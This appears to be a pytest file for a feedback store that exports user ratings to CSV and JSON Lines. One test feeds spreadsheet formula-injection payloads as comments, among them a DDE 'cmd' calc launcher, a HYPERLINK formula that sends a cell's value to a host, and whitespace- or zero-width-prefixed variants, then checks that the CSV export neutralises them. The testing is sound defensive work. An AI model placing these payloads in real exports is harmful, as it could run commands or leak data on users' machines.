"""The feedback store and its exports (CSV for a spreadsheet, JSON Lines for scripts)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from app.feedback import FeedbackFull, FeedbackStore

CITATION = {"text": "Les observatoires du foncier", "document": "plan", "page": 4}


def test_exports_hold_what_was_shown(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.add("up", "Quel levier pour le foncier ?", "Levier : observatoires", False, [CITATION], "utile")
    store.add("down", "Loyer à Nîmes ?", "Je ne trouve pas…", True, [])
    rows = list(csv.DictReader(io.StringIO("".join(store.export("csv")))))
    assert [(row["rating"], row["question"], row["refused"], row["comment"]) for row in rows] == [
        ("up", "Quel levier pour le foncier ?", "0", "utile"),
        ("down", "Loyer à Nîmes ?", "1", ""),
    ]
    lines = [json.loads(line) for line in "".join(store.export("jsonl")).splitlines()]
    assert lines[0]["citations"] == [CITATION] and lines[1]["refused"] is True


def test_a_comment_cannot_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    hostile = ['=HYPERLINK("http://x"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
    # Behind what a spreadsheet skips (line break, space, no-break or zero-width space, BOM), or full width.
    hostile += ["\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1"]
    for comment in hostile:
        store.add("down", comment, "réponse", False, [], comment)
    rows = list(csv.DictReader(io.StringIO("".join(store.export("csv")))))
    assert [row["comment"] for row in rows] == ["'" + comment for comment in hostile]
    assert [row["question"] for row in rows] == ["'" + comment for comment in hostile]
    assert [
        json.loads(line)["comment"] for line in "".join(store.export("jsonl")).splitlines()
    ] == hostile  # data kept as is


def test_the_store_is_capped_and_keeps_the_oldest(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3", max_rows=3)
    for number in range(3):
        store.add("up", f"question {number}", "réponse", False, [])
    with pytest.raises(FeedbackFull):
        store.add("up", "question 3", "réponse", False, [])
    kept = [json.loads(line)["question"] for line in store.export("jsonl")]
    assert kept == ["question 0", "question 1", "question 2"]
